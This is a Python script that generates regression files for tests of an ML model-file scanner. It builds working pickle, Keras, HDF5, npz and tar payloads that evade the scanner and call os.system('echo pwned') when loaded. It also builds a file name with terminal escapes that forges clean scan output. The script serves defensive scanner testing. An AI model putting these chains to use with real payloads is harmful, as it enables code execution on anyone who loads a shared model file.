"""Second review: scanner bypasses and misreports, as regression files for
tests/bypasses.rs, in the style of bypasses.py (each gen_* returns (file name, bytes);
stdlib only).

  bypasses2.py OUTDIR

Writes the files and manifest.json [{"file", "generator", "expect"}], "expect" the least
severity the scanner must report. Loader behaviour was checked by reading the library
sources and, for the pickle chains, with benign twins (same chain, payload writing a file
somewhere harmless) loaded by pickle.loads (C), pickle._loads (pure Python) and joblib.load
in a venv with numpy 2.4.6, pandas 3.1.1, scipy 1.17.1, scikit-learn 1.9.1, joblib 1.6.0.
Payloads call os.system('echo pwned'): NEVER load these files.
"""
import base64, io, json, marshal, os, struct, sys, zipfile, zlib

CMD = "echo pwned"
MODULE = "mlg_pwned"   # module written then imported by gen_attrgetter_write_module_then_import

def u32(n): return struct.pack("<I", n)
def bu(s):
    """BINUNICODE."""
    s = s.encode(); return b"X" + u32(len(s)) + s
def os_system_p0(cmd=None):
    cmd = (CMD if cmd is None else cmd).encode()
    return b"cos\nsystem\n(S'" + cmd + b"'\ntR"
def getter(name, root_ops):
    """operator.attrgetter(name)(root): attrgetter is allowlisted; only its names are checked."""
    return b"coperator\nattrgetter\n(" + bu(name) + b"tR(" + root_ops + b"tR"

# ------------------------------------------------------------------ A. safe names that run code
def gen_attrgetter_dataframe_query():
    """attrgetter('query')(pandas.DataFrame())(expr): every import is allowlisted
    (operator.attrgetter, pandas.DataFrame) and 'query' is not a blocked getter name, so
    the scan is empty (exit 0). DataFrame.query evaluates `expr` with pandas' expression
    visitor (pandas/core/computation/expr.py visit_Attribute/visit_Call: getattr on any
    attribute, dunders included, and calls them while parsing, whatever the engine):
    index.copy.__globals__ is pandas.core.indexes.base's globals, its 'np' is numpy,
    np._pytesttester.os is os. The comparison with `index` makes the mask empty, so the
    load even returns an empty DataFrame without error. Benign twin: ran under
    pickle.loads, pickle._loads and joblib.load."""
    expr = ('index == index.copy.__globals__.get("np")._pytesttester.os.system("%s")' % CMD)
    return "dataframe_query.pkl", (b"\x80\x02" + getter("query", b"cpandas\nDataFrame\n)R") +
                                   b"(" + bu(expr) + b"tR.")

def gen_attrgetter_write_module_then_import():
    """Two allowlisted-only steps, silent: (1) attrgetter('write_text')(pathlib.PosixPath(
    'mlg_pwned.py'))(source) writes a Python module into the working directory
    (pathlib.Path.write_text); (2) functools.partial(attrgetter('plot')(DataFrame())) with
    keywords {'backend': 'mlg_pwned'} set by BUILD (partial.__setstate__), then called:
    PlotAccessor.__call__ -> _get_plot_backend -> _load_backend ->
    importlib.import_module('mlg_pwned') (pandas/plotting/_core.py): the module runs.
    The import needs the working directory on sys.path ('' under python -c/-m, REPLs,
    notebooks, or a script run from its own directory); the write alone is an arbitrary
    file write (~/.bashrc, a site-packages .pth, sitecustomize.py...). Benign twin ran
    under pickle.loads from /tmp/review2/runcwd."""
    mod = MODULE
    src = "import os\nos.system(%r)\ndef plot(*a, **k):\n    return None\n" % CMD
    w = getter("write_text", b"cpathlib\nPosixPath\n(" + bu(mod + ".py") + b"tR") + b"(" + bu(src) + b"tR0"
    plot = getter("plot", b"cpandas\nDataFrame\n)R")
    part = (b"cfunctools\npartial\n(" + plot + b"tR" +
            b"(" + plot + b")}(" + bu("backend") + bu(mod) + b"uNtb" + b")R")
    return "write_module_then_import.pkl", b"\x80\x02" + w + part + b"."

SCIPY_TEMPLATE = (
    "\ndef _parse_args(self,  loc=0, scale=1):\n    return (), loc, scale\n\n"
    "def _parse_args_rvs(self,  loc=0, scale=1, size=None):\n"
    "    return self._argcheck_rvs( loc, scale, size=size)\n\n"
    "def _parse_args_stats(self,  loc=0, scale=1, moments='mv'):\n"
    "    return (), loc, scale, moments\n")

def gen_scipy_stats_parse_arg_template():
    """scipy.stats._continuous_distns.norm_gen is allowlisted (as are expon_gen,
    uniform_gen, reciprocal_gen, randint_gen and the rv_*_frozen wrappers that hold them).
    BUILD calls rv_generic.__setstate__(state): self.__dict__.update(state), then
    self._attach_methods() -> _attach_argparser_methods() -> exec(self._parse_arg_template,
    ns) (scipy/stats/_distn_infrastructure.py, rv_generic.__setstate__ and
    _attach_argparser_methods): Python source taken from the pickle is executed. Every real
    pickle of a scipy distribution carries this source; here it also calls os.system.
    No import is flagged: exit 0. Benign twin: pickle.loads and joblib.load run the
    source and return a working norm distribution."""
    src = SCIPY_TEMPLATE + "import os; os.system(%r)\n" % CMD
    f = lambda x: b"G" + struct.pack(">d", x)
    return "scipy_norm_exec.pkl", (
        b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}(" +
        bu("_parse_arg_template") + bu(src) + bu("numargs") + b"K\x00" +
        bu("moment_type") + b"K\x01" + bu("a") + f(float("-inf")) + bu("b") + f(float("inf")) +
        bu("name") + bu("norm") + bu("shapes") + b"N" + bu("_ctor_param") + b"}" +
        bu("badvalue") + f(float("nan")) + bu("xtol") + f(1e-14) +
        bu("_stats_has_moments") + b"\x88" + b"ub.")

# ------------------------------------------------------------------ B. Keras
# config.json of tests/fixtures/real/keras/lambda.keras (Keras 3.15.1): a Lambda layer.
KERAS_LAMBDA_CONFIG = (
    '{"module": "keras.src.models.functional", "class_name": "Functional", "config": {"name": "functional'
    '_1", "trainable": true, "layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": '
    '{"batch_shape": [null, 4], "dtype": "float32", "sparse": false, "ragged": false, "name": "input_laye'
    'r_1", "optional": false}, "registered_name": null, "name": "input_layer_1", "inbound_nodes": []}, {"'
    'module": "keras.layers", "class_name": "Dense", "config": {"name": "dense_2", "trainable": true, "dt'
    'ype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_na'
    'me": null}, "units": 4, "activation": "linear", "use_bias": true, "kernel_initializer": {"module": "'
    'keras.initializers", "class_name": "GlorotUniform", "config": {"seed": null, "input_axes": null, "ou'
    'tput_axes": null}, "registered_name": null}, "bias_initializer": {"module": "keras.initializers", "c'
    'lass_name": "Zeros", "config": {}, "registered_name": null}, "kernel_regularizer": null, "bias_regul'
    'arizer": null, "kernel_constraint": null, "bias_constraint": null, "quantization_config": null}, "re'
    'gistered_name": null, "build_config": {"input_shape": [null, 4]}, "name": "dense_2", "inbound_nodes"'
    ': [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [null, 4], "dtype": "float32", "'
    'keras_history": ["input_layer_1", 0, 0]}}], "kwargs": {}}]}, {"module": "keras.layers", "class_name"'
    ': "Lambda", "config": {"name": "double", "trainable": true, "dtype": {"module": "keras", "class_name'
    '": "DTypePolicy", "config": {"name": "float32"}, "registered_name": null, "shared_object_id": 139803'
    '047526864}, "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAIAAAATAAA'
    'A8wwAAACXAHwAZAF6BQAAUwApAk7nAAAAAAAAAECpACkB2gF0\\ncwEAAAAg+iIvd29yay9tYWluL2JlbmNoL21vZGVsX2ZpeHR1c'
    'mVzLnB5+gg8bGFtYmRhPvodd3Jp\\ndGVfa2VyYXMuPGxvY2Fscz4uPGxhbWJkYT5tAAAAcwoAAACAAKBhqCOhZ4AA8wAAAAA=\\n"'
    ', "defaults": null, "closure": null}}, "arguments": {}}, "registered_name": null, "build_config": {"'
    'input_shape": [null, 4]}, "name": "double", "inbound_nodes": [{"args": [{"class_name": "__keras_tens'
    'or__", "config": {"shape": [null, 4], "dtype": "float32", "keras_history": ["dense_2", 0, 0]}}], "kw'
    'args": {"mask": null}}]}], "input_layers": ["input_layer_1", 0, 0], "output_layers": ["double", 0, 0'
    ']}, "registered_name": "Functional", "build_config": {"input_shape": null}, "compile_config": {}}')

def _keras_zip(config_bytes):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", '{"keras_version": "3.15.1", "date_saved": "2026-12-04@21:29:23"}')
        z.writestr("config.json", config_bytes)
        z.writestr("model.weights.h5", b"")
    return buf.getvalue()

def gen_keras_config_utf16():
    """config.json encoded as UTF-16 (with BOM). Keras reads it with
    json.loads(zf.open('config.json').read()) (keras/src/saving/saving_lib.py
    _load_model_from_fileobj / _model_from_config), and json.loads of bytes detects UTF-16
    and UTF-32 (json.detect_encoding). mlguard's keras_config parses with
    serde_json::from_slice (UTF-8 only), fails, returns without a finding, and the member
    is scanned by content as text: info only, exit 0. The Lambda layer is there."""
    json.loads(KERAS_LAMBDA_CONFIG.encode("utf-16"))
    return "lambda_utf16.keras", _keras_zip(KERAS_LAMBDA_CONFIG.encode("utf-16"))

def gen_keras_config_nan():
    """Same with one NaN value in the config: Python's json accepts NaN/Infinity (and
    1e400, lone surrogates '\\ud800', a UTF-8 BOM); serde_json refuses each, so the Lambda
    layer is not reported. (Other spellings verified: utf-16-le without BOM, utf-32,
    utf-8-sig, 1e400, \\ud800: all exit 0.)"""
    cfg = KERAS_LAMBDA_CONFIG.replace('"trainable": true, "layers"',
                                      '"trainable": true, "note": NaN, "layers"')
    json.loads(cfg)
    return "lambda_nan.keras", _keras_zip(cfg.encode())

def gen_keras_directory_config():
    """Keras 3 also loads an unzipped model: a directory (its name not ending in .keras)
    holding config.json (keras/src/saving/saving_lib.py load_model: is_keras_dir ->
    _load_model_from_dir; saving_api.load_model: is_keras_dir). mlguard only reads Keras
    configs inside zip archives: `mlguard scan model DIR` scans config.json as text (info),
    exit 0. Written as a tar here so the generator returns one file; the test extracts it
    and scans the directory `lambda_dir/`."""
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, body in [("lambda_dir/config.json", KERAS_LAMBDA_CONFIG.encode()),
                           ("lambda_dir/metadata.json", b'{"keras_version": "3.15.1"}'),
                           ("lambda_dir/model.weights.h5", b"")]:
            ti = tarfile.TarInfo(name); ti.size = len(body); t.addfile(ti, io.BytesIO(body))
    return "lambda_dir.tar", buf.getvalue()

H5_LAMBDA_B64 = (
    "eNrtWdtO20AQXUMIEYUKpEqFUiTLT5VAlABCUKkqjhNiFG7hGkDI3SSOHXDs4AvhorzTt35GH/vYT+hn8Cd0114ntkUAtekT"
    "e6R4s7Ozs5PZORNp/E1MrwwNvBsAGIkEiIFhEMQ9wR0bnvvrX8nIkPGWjD96fHmfuzZK5MPEPtsb3ri7ncngyX0ELUeIgQSg"
    "eIkQM/wWHgvhdAC/e8J6NaMsa1JDriqqbQXycvkvzx0h+RrN60EgkvR9Dd6grDyTTWhJF7JpVQ0dyccYxt053PIhEeJJPJDM"
    "jGtvmXxPuPaKsHQm6+Un7QwE7PSE/Bpy7XjxKBl6paoA1y/wqL23vW17vY/w9y7uzdln8jfx3t9PQfnbzqfbeFivqtcdW0oC"
    "DdaKZdg9/ooxb67Gff6qJO8HEU9G0XlXsinpsCZb4FGeMEyLa8GxP8DDvgi/Y13id7zLdQf7nBU215gAMUN6CLPTydnpmfbv"
    "HCCjLeuWYVY0o9GuFa36gXDDlTRoWW5EuU8styOfO7JuV6HGTbGcV4+Q/IbzFayQgnsdFpIfRw2t4gRZw8sRQ0Vol1TJyx9L"
    "hXWsfaw7mjbFzp8g1bJ95co45DS052bxdqsOTQsLK1CzZCQwoaLI5YDAP5bkJddsTrFRl9bcXO3wu7TWom3Cqg6LGhbbpiN3"
    "8Kni6CUbXSZ2n5tvZPgw1vEjjR+LMwZ6CgVezKdCKtl8qq6gfTkrIBcUPs93xBGfq+H18+B5Ip+q8KldXjhL79qGUJzbWBBq"
    "+6cwu6iUxLJzdJCv87aRKySX6sVC6qKkb1cKS0a2NKddl7P7di4vQr6gXrvnCukFIX1pHR4kq0fZzOSkoiwWsyv2YW1b3dJX"
    "Rfc8rCeuq/irwgsbuXpqbyZvwCSPPg1DnVEM1RCut4Xqxz30yQunO431QxSHhrv7Mwqed934eRKIpORHuX0X6G/RcS+Ck6Qa"
    "uhZJwlLDsYPZ41kLSVumTNiI7pBaRslGaCpODeU0zuObZrN50myCWIRffp3rC9aRQB2MP8G7/g589fFhkP73UFBQUFBQUFBQ"
    "UFB42NnYTDNuV4L082LhPkC0b0LxMBjQ+2CfdGuCxI/IvT4p6Pyeg+JFI9on9Xn5czyabx62uloHelrniWPhc+pk/n3cz28P"
    "vybCencTfiF5mffn95uj8Qq/lxkF3huqdsN5hP1CYr8M5l+B+XvSR/X7zc+tN5csrTcU/15vWPb/1hufJ9F60W2e/AFMRrla"
)

def gen_keras_h5_lambda():
    """A legacy Keras HDF5 model (written with h5py 3.16: root attribute model_config = a
    Sequential whose Lambda layer holds marshalled code calling os.system). Keras loads
    .h5/.hdf5 with legacy_h5_format.load_model_from_hdf5 (keras/src/saving/saving_api.py
    load_model); tf.keras 2.x and Keras 3 before 3.11.3 run the Lambda even with
    safe_mode=True (CVE-2025-9905). mlguard has no HDF5 reader: Format::Other, info only
    ('h5' is not even a model extension), exit 0."""
    return "lambda_model.h5", zlib.decompress(base64.b64decode("".join(H5_LAMBDA_B64)))

# ------------------------------------------------------------------ C. severity too low
def gen_interp1d_call_spline():
    """getattr(interp1d, '_call_spline') is an exact safe row
    (scipy.interpolate._interpolate interp1d._call_spline). It is
    `def _call_spline(self, x_new): return self._spline(x_new)`: called with a
    SimpleNamespace whose _spline is os.system, it calls os.system('echo pwned').
    mlguard: 'imports os.system' (high), not 'calls' (critical). Twin with builtins.print
    printed 'echo pwned'."""
    ns = b"ctypes\nSimpleNamespace\n)R}(S'_spline'\ncos\nsystem\nub"
    return "interp1d_call_spline.pkl", (
        b"cbuiltins\ngetattr\n(cscipy.interpolate._interpolate\ninterp1d\nS'_call_spline'\ntR(" +
        ns + b"S'" + CMD.encode() + b"'\ntR.")

def gen_numpy_alias_in_safe_module():
    """'pandas._libs.tslibs.offsets *' (and 'scipy.special._ufuncs *') is safe and 'np' is
    not a module name the table knows, so GLOBAL pandas._libs.tslibs.offsets.np (the numpy
    module) is safe. getattr chains from it reach os: getattr(getattr(getattr(np,
    '_pytesttester'), 'os'), 'system')('echo pwned'). mlguard reports the call of
    ...np._pytesttester.os.system at medium ('unknown'), the os module at high: never
    critical."""
    ga = lambda obj, name: b"cbuiltins\ngetattr\n(" + obj + b"S'" + name + b"'\ntR"
    obj = ga(ga(ga(b"cpandas._libs.tslibs.offsets\nnp\n", b"_pytesttester"), b"os"), b"system")
    return "numpy_alias_getattr.pkl", obj + b"(S'" + CMD.encode() + b"'\ntR."

def gen_bz2_magic_pickle():
    """A pickle starting with BINBYTES whose 4-byte length is b'Zh9\\0': the file starts
    with 'BZh9', detect() says bzip2 before it tries protocol 0/1 pickles, decompression
    fails: one medium 'not-inspected' finding. pickle.load, numpy.load(allow_pickle=True)
    (not zip, not .npy -> pickle.load, numpy/lib/_npyio_impl.py load) and torch.load
    (non-zip -> legacy pickle loads) skip 3.7 MB of bytes and call os.system (instrumented
    C and Python unpicklers: import os.system, call). Should be critical."""
    n = int.from_bytes(b"Zh9\x00", "little")
    return "bz2_magic.pkl", b"BZh9\x00" + b"\x00" * n + b"0" + os_system_p0() + b"."

def gen_safetensors_magic_pickle():
    """A pickle starting with BINFLOAT (G + 8 bytes): its first 8 bytes read as a
    little-endian header length of 71 and byte 8 is '{', so detect() says safetensors
    (before protocol 0/1 pickles); the header is not JSON: one medium 'safetensors.invalid'
    finding. Loaders read G, POP, then os.system('echo pwned') (instrumented unpicklers).
    Should be critical."""
    return "safetensors_magic.pkl", (b"G" + b"\x00" * 7 + b"{" + b"0" + os_system_p0() + b"." +
                                     b" " * 80)

def _npy(descr_src, body):
    hdr = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr_src).encode("latin1")
    pad = 64 - (10 + len(hdr) + 1) % 64
    hdr = hdr + b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + body

def gen_npz_lzma_member():
    """An .npz whose member is LZMA-compressed (method 14). Python's zipfile reads it
    (numpy.load -> NpzFile -> zipfile), the object array's pickle calls os.system; mlguard
    reports 'compression method 14 is not supported' at medium only. Should be critical
    (decompress LZMA, or at least report what cannot be read at the worst severity a
    member could have)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_LZMA) as z:
        z.writestr("arr.npy", _npy("'|O'", b"\x80\x02" + os_system_p0() + b"."))
    return "lzma_member.npz", buf.getvalue()

# ------------------------------------------------------------------ D. output
def gen_terminal_escape_in_name():
    """Calls os.system, then imports a name holding terminal escapes (the import fails
    after the payload ran). Text output prints the finding message raw (render_text
    escapes only `value`): on a terminal the line erases the lines above, prints a green
    'nothing found at or above the threshold' and turns on SGR 8 (concealed), hiding the
    real last line. Exit status is still 1; what a person sees is forged. Zip member names
    and file names reach `location` the same way."""
    esc = (b"\x1b[1A\x1b[2K" * 5 + b"\r1 file(s) scanned: \x1b[32mnothing found at or above the"
           b" threshold\x1b[0m\x1b[8m")
    return "escape.pkl", os_system_p0() + b"0c" + b"x" + esc + b"\ny\n0N."

# ------------------------------------------------------------------ E. formats not recognised
def _v7_header(name, size):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size; h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8; h[156:157] = b"0"
    h[148:156] = b"%06o\0 " % sum(h)          # no 'ustar' magic at 257: a V7 header
    return bytes(h)

def gen_legacy_torch_v7_tar():
    """A legacy torch.save tar in the old V7 layout (no 'ustar' magic at byte 257).
    mlguard's is_tar() requires the magic, so the file is not a tar, not a pickle (the
    first byte 's' of 'storages' is not an opcode), not UTF-8: 'model.format.unrecognized'
    LOW, exit 0. torch.load(weights_only=False) on a non-zip file calls _legacy_load ->
    legacy_load -> tarfile.open(fileobj=f, mode='r:', format=PAX_FORMAT) (torch/
    serialization.py), and Python's tarfile reads V7 headers (no magic needed: tarfile.py
    TarInfo.frombuf checks only the checksum); the first thing it unpickles is
    num_storages = pickle_module.load(storages): os.system. (tarfile.open(...).getnames()
    on this file lists the four members; torch itself not run: not installed.)"""
    evil = b"\x80\x02" + os_system_p0() + b"."
    out = b""
    for name, body in [(b"storages", evil), (b"tensors", b"\x80\x02K\x00."),
                       (b"pickle", b"\x80\x02N."), (b"sys_info", b"\x80\x02}.")]:
        out += _v7_header(name, len(body)) + body + b"\0" * (-len(body) % 512)
    return "legacy_v7_tar.pt", out + b"\0" * 1024

def gen_build_setattr_on_imported_module():
    """BUILD whose target is an import: pickle's load_build finds no __setstate__ on a
    module/class and, with a (None, slotstate) state, runs setattr(target, k, v) for each
    item (Lib/pickle.py load_build; _pickle.c load_build). Here the target is the numpy
    module (the safe 'np' of pandas._libs.tslibs.offsets) and numpy.isnan becomes
    numpy.isinf for the whole process (scikit-learn's NaN checks stop working); any
    allowlisted class or module can be rewritten the same way. mlguard ignores BUILD on
    an import: exit 0. Should be what builtins.setattr is (dangerous). Twin: after
    pickle.loads, np.isnan(np.nan) is False."""
    return "build_setattr_numpy.pkl", (b"cpandas._libs.tslibs.offsets\nnp\n(N}S'isnan'\n"
                                       b"cnumpy\nisinf\nstb0N.")

GENS = [v for k, v in sorted(globals().items()) if k.startswith("gen_")]
EXPECT = {
    "gen_keras_config_utf16": "high", "gen_keras_config_nan": "high",
    "gen_keras_directory_config": "high", "gen_keras_h5_lambda": "high",
    "gen_build_setattr_on_imported_module": "high",
}
# What a test must do beyond scanning the file and comparing the worst severity.
EXTRA = {
    "gen_keras_directory_config": {"scan": "extract the tar, scan the directory lambda_dir/"},
    "gen_terminal_escape_in_name": {"also": "text output (--color never) holds no raw control character"},
}

if __name__ == "__main__":
    from bypasses import write_cases  # tests/py, beside this script
    write_cases(sys.argv[1], GENS, EXPECT, EXTRA)
